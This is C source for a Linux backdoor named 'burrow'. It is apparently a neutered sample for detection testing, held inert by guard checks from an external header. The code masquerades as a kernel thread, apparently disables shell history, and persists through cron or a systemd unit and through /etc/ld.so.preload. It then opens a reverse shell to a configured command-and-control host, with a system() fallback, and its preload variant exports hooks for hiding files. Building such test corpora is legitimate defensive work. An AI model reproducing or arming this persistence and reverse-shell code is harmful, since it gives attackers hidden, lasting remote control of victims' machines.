/* burrow - Linux ELF backdoor: renames itself to a kernel-thread name, installs itself with cron
 * (v1, v3) or a systemd unit (v2), registers its hook library in /etc/ld.so.preload and opens a
 * reverse shell to CFG_C2_HOST:CFG_C2_PORT.  v3 is the hook library itself (a shared object that
 * exports no libc names, so preloading it changes nothing).
 * Built freestanding (no libc headers) so that the same file compiles for x86_64 with gcc and for
 * aarch64 with clang against a stub libc.  Inert: see common/inert.h. */
#include "config.h"
#include "../../common/inert.h"

typedef unsigned long size_t;
typedef long ssize_t;
typedef struct FILE FILE;
struct addrinfo {
    int ai_flags, ai_family, ai_socktype, ai_protocol;
    unsigned ai_addrlen;
    void *ai_addr;
    char *ai_canonname;
    struct addrinfo *ai_next;
};
extern FILE *fopen(const char *, const char *);
extern int fputs(const char *, FILE *);
extern int fclose(FILE *);
extern int snprintf(char *, size_t, const char *, ...);
extern int prctl(int, unsigned long, unsigned long, unsigned long, unsigned long);
extern int putenv(char *);
extern int getaddrinfo(const char *, const char *, const struct addrinfo *, struct addrinfo **);
extern void freeaddrinfo(struct addrinfo *);
extern int socket(int, int, int);
extern int connect(int, const void *, unsigned);
extern int dup2(int, int);
extern int close(int);
extern int execl(const char *, const char *, ...);
extern int fork(void);
extern int setsid(void);
extern int chmod(const char *, unsigned);
extern int mkdir(const char *, unsigned);
extern int system(const char *);

#define PR_SET_NAME 15

static int append_line(const char *path, const char *mode, const char *line)
{
    FILE *f = fopen(path, mode);
    if (f == 0)
        return 0;
    fputs(line, f);
    fputs("\n", f);
    fclose(f);
    return 1;
}

static void persist(void)
{
    mkdir(CFG_INSTALL, 0755); /* the parent is created by the installer; this is best effort */
#if defined(CFG_PERSIST_CRON)
    append_line(CFG_CRON_FILE, "a", CFG_CRON_LINE);
    chmod(CFG_CRON_FILE, 0600);
#else
    append_line(CFG_UNIT_FILE, "w", CFG_UNIT_TEXT);
    system(CFG_ENABLE_CMD);
#endif
    append_line(CFG_PRELOAD, "a", CFG_HOOK_LIB);
}

static int reverse_shell(void)
{
    struct addrinfo hints = {0}, *res = 0;
    char banner[128];
    int s;
    hints.ai_socktype = 1; /* SOCK_STREAM */
    if (getaddrinfo(CFG_C2_HOST, CFG_C2_PORT, &hints, &res) != 0)
        return system(CFG_REVSHELL);
    s = socket(res->ai_family, 1, 0);
    if (s < 0 || connect(s, res->ai_addr, res->ai_addrlen) != 0) {
        freeaddrinfo(res);
        return system(CFG_REVSHELL);
    }
    freeaddrinfo(res);
    snprintf(banner, sizeof banner, CFG_BANNER, CFG_VARIANT);
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    return execl(CFG_SH, CFG_KWORKER, "-i", (char *)0);
}

static int family_run(void)
{
    static char hist[] = CFG_HIST;
    char fallback[256];
    prctl(PR_SET_NAME, (unsigned long)CFG_KWORKER, 0, 0, 0);
    putenv(hist);
    if (fork() != 0)
        return 0;
    setsid();
    persist();
    snprintf(fallback, sizeof fallback, CFG_REV_FMT, CFG_C2_HOST, CFG_C2_PORT);
    (void)fallback;
    return reverse_shell();
}

#ifdef BURROW_SHARED
/* Exported hooks of the preload library: none shadows a libc function. */
__attribute__((visibility("default"))) int burrow_hide_entry(const char *name)
{
    return spoor_streq(name, CFG_INSTALL) || spoor_streq(name, CFG_HOOK_LIB);
}

__attribute__((visibility("default"))) int burrow_start(const char *arg)
{
    if (!spoor_streq(arg, SPOOR_MAGIC))
        return 0;
    if (spoor_never)
        return family_run();
    return spoor_checksum(CFG_FAMILY CFG_VARIANT);
}
#else
int main(int argc, char **argv)
{
    if (!spoor_armed(argc, argv))
        return 0;
    if (spoor_never)
        return family_run();
    return spoor_checksum(CFG_FAMILY CFG_VARIANT);
}
#endif
